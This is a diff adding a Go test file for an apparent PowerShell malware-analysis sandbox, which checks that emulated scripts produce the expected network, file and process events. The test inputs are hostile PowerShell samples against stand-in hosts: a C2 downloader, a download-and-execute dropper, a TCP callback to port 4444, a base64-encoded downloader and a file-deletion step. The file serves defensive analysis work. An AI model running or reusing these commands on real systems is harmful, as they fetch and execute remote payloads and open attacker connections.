@@ -1,0 +1,135 @@
+package sandbox
+
+import (
+	"strings"
+	"testing"
+)
+
+func hasEvent(b Behavior, kind EventKind, detailSub string) bool {
+	for _, e := range b {
+		if e.Kind == kind && strings.Contains(e.Detail, detailSub) {
+			return true
+		}
+	}
+	return false
+}
+
+func TestRunDownloader(t *testing.T) {
+	res := Run(`(New-Object Net.WebClient).downloadstring('https://c2.test/payload.ps1')`, Options{})
+	if res.Err != nil {
+		t.Fatalf("err = %v", res.Err)
+	}
+	if !hasEvent(res.Behavior, EventDNSQuery, "c2.test") {
+		t.Errorf("missing dns event: %v", res.Behavior)
+	}
+	if !hasEvent(res.Behavior, EventTCPConnect, "c2.test:443") {
+		t.Errorf("missing tcp event: %v", res.Behavior)
+	}
+	if !hasEvent(res.Behavior, EventHTTPGet, "payload.ps1") {
+		t.Errorf("missing http event: %v", res.Behavior)
+	}
+}
+
+func TestRunDropperAndProcess(t *testing.T) {
+	res := Run(`(New-Object Net.WebClient).DownloadFile('http://x.test/e.exe', "$env:TEMP\e.exe")
+Start-Process "$env:TEMP\e.exe"`, Options{})
+	if !hasEvent(res.Behavior, EventDownload, "e.exe") {
+		t.Errorf("missing download: %v", res.Behavior)
+	}
+	if !hasEvent(res.Behavior, EventProcess, "e.exe") {
+		t.Errorf("missing process: %v", res.Behavior)
+	}
+}
+
+func TestRunTCPClient(t *testing.T) {
+	res := Run(`$c = New-Object Net.Sockets.TcpClient('198.51.100.1', 4444)`, Options{})
+	if !hasEvent(res.Behavior, EventTCPConnect, "198.51.100.1:4444") {
+		t.Errorf("missing tcp connect: %v", res.Behavior)
+	}
+}
+
+func TestRunFileAndSleep(t *testing.T) {
+	res := Run(`'note' | Out-File "$env:USERPROFILE\Desktop\README.txt"
+Start-Sleep -Seconds 30
+Remove-Item 'C:\doc.txt'`, Options{})
+	if !hasEvent(res.Behavior, EventFileWrite, "README.txt") {
+		t.Errorf("missing write: %v", res.Behavior)
+	}
+	if !hasEvent(res.Behavior, EventSleep, "30") {
+		t.Errorf("missing sleep: %v", res.Behavior)
+	}
+	if !hasEvent(res.Behavior, EventFileDelete, "doc.txt") {
+		t.Errorf("missing delete: %v", res.Behavior)
+	}
+}
+
+func TestRunNestedEncodedCommand(t *testing.T) {
+	// powershell -enc wrapping a downloader must still surface the
+	// network behaviour (nested execution).
+	res := Run("powershell -nop -e KABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvAG4AZQBzAHQALgB0AGUAcwB0AC8AJwApAA==", Options{})
+	if !hasEvent(res.Behavior, EventDNSQuery, "nest.test") {
+		t.Errorf("nested network behaviour missing: %v (err=%v)", res.Behavior, res.Err)
+	}
+}
+
+func TestConsistent(t *testing.T) {
+	a := Run(`(New-Object Net.WebClient).downloadstring('http://same.test/x')`, Options{})
+	b := Run(`$u = 'http://same.test/x'
+(New-Object Net.WebClient).downloadstring($u)`, Options{})
+	if !Consistent(a.Behavior, b.Behavior) {
+		t.Errorf("equivalent scripts inconsistent:\n%v\n%v", a.Behavior.NetworkSet(), b.Behavior.NetworkSet())
+	}
+	c := Run(`(New-Object Net.WebClient).downloadstring('http://other.test/x')`, Options{})
+	if Consistent(a.Behavior, c.Behavior) {
+		t.Error("different targets reported consistent")
+	}
+	d := Run(`write-host nothing`, Options{})
+	if Consistent(a.Behavior, d.Behavior) {
+		t.Error("networked vs silent reported consistent")
+	}
+}
+
+func TestConsoleCapture(t *testing.T) {
+	res := Run("write-host 'visible output'", Options{})
+	if !strings.Contains(res.Console, "visible output") {
+		t.Errorf("console = %q", res.Console)
+	}
+}
+
+func TestHostPort(t *testing.T) {
+	tests := []struct {
+		url  string
+		host string
+		port int64
+	}{
+		{"https://a.test/x", "a.test", 443},
+		{"http://b.test:8080/y?q=1", "b.test", 8080},
+		{"HTTP://UPPER.test", "upper.test", 80},
+		{"ftp://f.test/z", "f.test", 21},
+		{"plain.test/path", "plain.test", 80},
+	}
+	for _, tt := range tests {
+		h, p := hostPort(tt.url)
+		if h != tt.host || p != tt.port {
+			t.Errorf("hostPort(%q) = %q,%d want %q,%d", tt.url, h, p, tt.host, tt.port)
+		}
+	}
+}
+
+func TestRunBudget(t *testing.T) {
+	res := Run("while ($true) { $i++ }", Options{MaxSteps: 5000})
+	if res.Err == nil {
+		t.Error("expected budget error")
+	}
+}
+
+func TestBehaviorBeforeFailureIsKept(t *testing.T) {
+	res := Run(`(New-Object Net.WebClient).downloadstring('http://early.test/')
+Unknown-Cmdlet-That-Fails`, Options{})
+	if res.Err == nil {
+		t.Error("expected failure")
+	}
+	if !hasEvent(res.Behavior, EventDNSQuery, "early.test") {
+		t.Errorf("behaviour before failure lost: %v", res.Behavior)
+	}
+}
